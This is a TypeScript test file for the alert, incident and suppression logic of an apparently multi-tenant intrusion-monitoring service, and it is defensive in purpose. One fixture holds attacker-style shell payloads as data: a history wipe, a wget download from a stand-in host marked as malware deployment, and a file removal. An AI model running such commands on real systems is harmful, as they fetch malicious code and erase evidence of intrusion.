import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { toMatcher } from '../../src/alert/suppression.ts';
import type { Verdict } from '../../src/core/verdict.ts';
import { at, createTenantSim, event, type TenantSim } from '../support/tenant-sim.ts';

const minute = 60_000;
const occasions = (world: TenantSim): string[] => world.notices.map(({ occasion }) => occasion);
const only = <T>(items: Iterable<T>): T => {
  const all = [...items];
  assert.equal(all.length, 1);
  return all[0]!;
};

/** Feeds `count` events a second apart, in batches of `size`. */
function feedMany(
  world: TenantSim,
  count: number,
  size: number,
  make: (n: number) => ReturnType<typeof event>,
): void {
  for (let from = 0; from < count; from += size)
    world.feed(Array.from({ length: Math.min(size, count - from) }, (_, n) => make(from + n)));
}

describe('ten thousand guesses of one source', () => {
  for (const size of [1, 100, 10_000])
    it(`are one incident and at most three messages, in batches of ${size}`, () => {
      const world = createTenantSim();
      feedMany(world, 10_000, size, (n) => event({ ms: n * 100, risk: 8 + (n % 3) }));
      const incident = only(world.incidents.values());
      assert.equal(incident.event_count, 10_000);
      assert.equal(incident.alert_count, 1);
      assert.equal(only(world.alerts.values()).event_count, 10_000);
      assert.equal(incident.risk_score, 10);
      assert.equal(incident.throttled, true);
      assert.deepEqual(occasions(world), ['opened', 'worse', 'throttled']);
      assert.equal(incident.notifications, 3);
    });

  it('become worse by one successful sign-in in the middle, which is told at once', () => {
    const world = createTenantSim();
    feedMany(world, 5000, 100, (n) => event({ ms: n * 100 }));
    assert.deepEqual(occasions(world), ['opened', 'throttled']);
    // Its own risk is no greater than what stands: it is the stage that counts.
    const effects = world.feed([
      event({ ms: 500_000, type: 'CredentialAccess', risk: 8 }, { kind: 'login.succeeded' }),
    ]);
    assert.deepEqual(occasions(world), ['opened', 'throttled', 'worse']);
    const told = world.notices.at(-1);
    assert.equal(told?.attack_type, 'CredentialAccess');
    assert.match(told?.title ?? '', /signed in/);
    assert.equal(told?.event_count, 5001);
    assert.equal(effects.alerts.length, 0);
    assert.equal(told?.alert_id, only(world.alerts.keys()));
    feedMany(world, 5000, 100, (n) => event({ ms: 500_100 + n * 100 }));
    assert.deepEqual(occasions(world), ['opened', 'throttled', 'worse']);
    const incident = only(world.incidents.values());
    assert.equal(incident.event_count, 10_001);
    assert.equal(incident.attack_type, 'CredentialAccess');
  });

  it('become worse by a sign-in with less risk than what stands, and keep their greatest risk', () => {
    const world = createTenantSim();
    world.feed([event({ risk: 9 })]);
    world.feed([event({ ms: 1000, type: 'CredentialAccess', risk: 8 })]);
    const incident = only(world.incidents.values());
    assert.equal(incident.risk_score, 9);
    assert.equal(incident.attack_type, 'CredentialAccess');
    assert.equal(world.notices.at(-1)?.risk_score, 9);
  });

  it('cannot be made to talk without end', () => {
    const world = createTenantSim();
    const types = [
      'Recon',
      'BruteForce',
      'SqlInjection',
      'CredentialAccess',
      'CommandExecution',
      'Persistence',
      'LateralMovement',
      'MalwareDeployment',
    ] as const;
    feedMany(world, 4000, 7, (n) =>
      event({ ms: n * 100, type: types[n % types.length] as Verdict['attack_type'], risk: 8 + (n % 3) }),
    );
    assert.ok(world.notices.length <= 10, occasions(world).join());
    assert.equal(world.incidents.size, 1);
  });
});

describe('an alert', () => {
  it('is made when risk is greater than the threshold, not at it', () => {
    const world = createTenantSim();
    world.feed([event({ risk: 7 }), event({ risk: 8 })]);
    assert.equal(world.alerts.size, 1);
    const strict = createTenantSim({ threshold: 9 });
    strict.feed([event({ risk: 9 }), event({ risk: 10 })]);
    assert.equal(strict.alerts.size, 1);
  });

  it('is never made of what a sensor says about itself', () => {
    const world = createTenantSim();
    world.feed([
      event({ risk: 10 }, { kind: 'sensor.message' }),
      event({ risk: 10 }, { kind: 'connection.closed' }),
    ]);
    assert.equal(world.alerts.size, 0);
  });

  it('grows with the story of its session instead of being repeated', () => {
    const world = createTenantSim();
    const step = (ms: number, type: Verdict['attack_type'], risk: number) =>
      event({ ms, type, risk }, { session: 's1' });
    world.feed([step(0, 'Recon', 3), step(1, 'CredentialAccess', 8)]);
    const alert = only(world.alerts.values());
    assert.equal(alert.event_count, 2, 'the steps before it count');
    world.feed([step(2, 'CommandExecution', 9), step(3, 'Normal', 1)]);
    world.feed([step(4, 'MalwareDeployment', 10)]);
    assert.equal(world.alerts.size, 1);
    assert.equal(alert.event_count, 5);
    assert.equal(alert.attack_type, 'MalwareDeployment');
    assert.equal(alert.risk_score, 10);
    assert.deepEqual(occasions(world), ['opened', 'worse', 'worse']);
    assert.equal(only(world.incidents.values()).alert_count, 1);
  });

  it('is made anew when its incident was resolved and the session goes on', () => {
    const world = createTenantSim();
    const step = (ms: number, type: Verdict['attack_type'], risk: number) =>
      event({ ms, type, risk }, { session: 's1' });
    world.feed([step(0, 'CredentialAccess', 8)]);
    const incident = only(world.incidents.values());
    incident.open_key = incident.incident_id;
    world.feed([step(1, 'Normal', 1)]);
    assert.equal(world.alerts.size, 1, 'a quiet step is no news');
    const effects = world.feed([step(2, 'MalwareDeployment', 10), step(3, 'Persistence', 9)]);
    assert.equal(world.alerts.size, 2);
    assert.equal(world.incidents.size, 2);
    assert.equal(effects.alerts[0]?.event_count, 2, 'the further step is folded into it');
    assert.equal(effects.sessions[0]?.alert_id, effects.alerts[0]?.alert_id);
    assert.deepEqual(occasions(world), ['opened', 'opened']);
  });

  it('shows the step that its judgement speaks of, and when its story began', () => {
    for (const batches of [1, 2]) {
      const world = createTenantSim();
      const steps = [
        event({ ms: 0, type: 'DefenseEvasion', risk: 8 }, { session: 's1', payload: 'history -c' }),
        event(
          { ms: 9, type: 'MalwareDeployment', risk: 10 },
          { session: 's1', payload: 'wget http://198.51.100.7/x', activity: 'command', extra: { n: 2 } },
        ),
        event({ ms: 20, type: 'DefenseEvasion', risk: 9 }, { session: 's1', payload: 'rm x' }),
      ];
      for (const batch of batches === 1 ? [steps] : steps.map((one) => [one])) world.feed(batch);
      const alert = only(world.alerts.values());
      assert.equal(alert.attack_type, 'MalwareDeployment');
      assert.equal(alert.payload, 'wget http://198.51.100.7/x');
      assert.deepEqual(alert.extra, { n: 2 });
      assert.equal(alert.timestamp, steps[0]?.timestamp);
      assert.equal(alert.event_count, 3);
    }
  });

  it('has the same id whoever decides it', () => {
    const one = event({}, { log_id: 'log-same' });
    const make = () => only(createTenantSim().feed([structuredClone(one)]).alerts).alert_id;
    assert.equal(make(), make());
    assert.match(make(), /^ALERT-20261124100000-[0-9A-F]{12}$/);
    const agent = event({}, { collection: 'agent_events', log_id: 'log-same' });
    assert.match(only(createTenantSim().feed([agent]).alerts).alert_id, /^AGENT-/);
  });
});

describe('an incident', () => {
  it('takes what comes within the window, resumes quietly for seven days, and then a new one is opened', () => {
    const world = createTenantSim();
    world.feed([event({ ms: 0 })]);
    world.feed([event({ ms: 59 * minute })]);
    world.feed([event({ ms: 118 * minute })]);
    assert.equal(world.incidents.size, 1, 'the window slides');
    world.feed([event({ ms: 179 * minute })]);
    world.feed([event({ ms: 179 * minute + 7 * 24 * 60 * minute })]);
    const resumed = only(world.incidents.values());
    assert.equal(resumed.event_count, 5);
    assert.equal(resumed.resumed_at, at(179 * minute + 7 * 24 * 60 * minute));
    assert.deepEqual(occasions(world), ['opened']);
    const effects = world.feed([event({ ms: 179 * minute + 14 * 24 * 60 * minute + 1 })]);
    assert.equal(world.incidents.size, 2);
    assert.equal(effects.closedIncidents.length, 1);
    assert.deepEqual(occasions(world), ['opened', 'opened']);
  });

  it('is of one source', () => {
    const world = createTenantSim();
    world.feed([event({}), event({}, { source_ip: '203.0.113.10' }), event({}, { node_id: 'node-2' })]);
    assert.equal(world.incidents.size, 2);
  });

  it('takes events that come late or out of order without moving its end back', () => {
    const world = createTenantSim();
    const order = [0, 50, 10, 45, 20, 5, 40].map((m) => m * minute);
    for (const ms of order) world.feed([event({ ms })], 50 * minute);
    const incident = only(world.incidents.values());
    assert.equal(incident.event_count, 7);
    assert.equal(incident.last_seen, '2026-11-24T10:50:00.000Z');
    assert.deepEqual(occasions(world), ['opened']);
  });

  it('of history wakes nobody, until something new comes', () => {
    const world = createTenantSim();
    const old = (n: number) => event({ ms: n * 1000 }, { source_ip: '198.51.100.7', history: true });
    feedManyAt(
      world,
      Array.from({ length: 300 }, (_, n) => old(n)),
      3 * 24 * 60 * minute,
    );
    assert.deepEqual(occasions(world), []);
    assert.equal(only(world.incidents.values()).event_count, 300);
    world.feed([event({ ms: 3 * 24 * 60 * minute }, { source_ip: '198.51.100.7' })]);
    assert.deepEqual(occasions(world), ['opened']);
  });

  it('grows by every event in one batch as it would one by one', () => {
    const together = createTenantSim();
    const apart = createTenantSim();
    const make = (n: number) =>
      event({ ms: n * 10 * minute, risk: 8 + (n % 3) }, { log_id: `log-${n}`, session: n % 2 ? 's' : null });
    together.feed(Array.from({ length: 30 }, (_, n) => make(n)));
    for (let n = 0; n < 30; n++) apart.feed([make(n)]);
    const shape = (world: TenantSim) =>
      [...world.incidents.values()].map(
        ({ incident_id, event_count, alert_count, last_seen, risk_score, attack_type }) => ({
          incident_id,
          event_count,
          alert_count,
          last_seen,
          risk_score,
          attack_type,
        }),
      );
    assert.deepEqual(shape(together), shape(apart));
    assert.deepEqual(occasions(together), occasions(apart));
  });
});

const feedManyAt = (world: TenantSim, events: ReturnType<typeof event>[], nowMs: number): void => {
  for (let from = 0; from < events.length; from += 50) world.feed(events.slice(from, from + 50), nowMs);
};

describe('a suppressed event', () => {
  it('makes no alert, says which rule hid it, and counts as a hit', () => {
    const rule = {
      id: 'rule-1',
      user_id: 'user-1',
      enabled: true,
      expires_at: null,
      matches: toMatcher({ sources: ['203.0.113.9'] }),
    };
    const world = createTenantSim({ suppressions: [rule] });
    const events = [event({ ms: 0 }), event({ ms: 5 }), event({ ms: 1 }, { source_ip: '203.0.113.10' })];
    const effects = world.feed(events);
    assert.deepEqual(
      events.map(({ suppressed_by }) => suppressed_by),
      ['rule-1', 'rule-1', null],
    );
    assert.equal(world.alerts.size, 1);
    assert.deepEqual(effects.suppressionHits, [
      { user_id: 'user-1', rule_id: 'rule-1', hits: 2, last_at: events[1]!.timestamp },
    ]);
    assert.equal(
      effects.profiles.reduce((sum, { events: n }) => sum + n, 0),
      3,
      'it is still counted',
    );
  });

  it('is one only while the rule stands and has not expired', () => {
    const rule = { id: 'r', user_id: 'user-1', enabled: true, expires_at: null, matches: () => true };
    for (const [change, alerts] of [
      [{ expires_at: '2026-11-24T10:00:00.001Z' }, 0],
      [{ expires_at: '2026-11-24T10:00:00.000Z' }, 1],
      [{ expires_at: null, enabled: false }, 1],
    ] as const) {
      const world = createTenantSim({ suppressions: [{ ...rule, ...change }] });
      world.feed([event({})]);
      assert.equal(world.alerts.size, alerts, JSON.stringify(change));
    }
  });
});
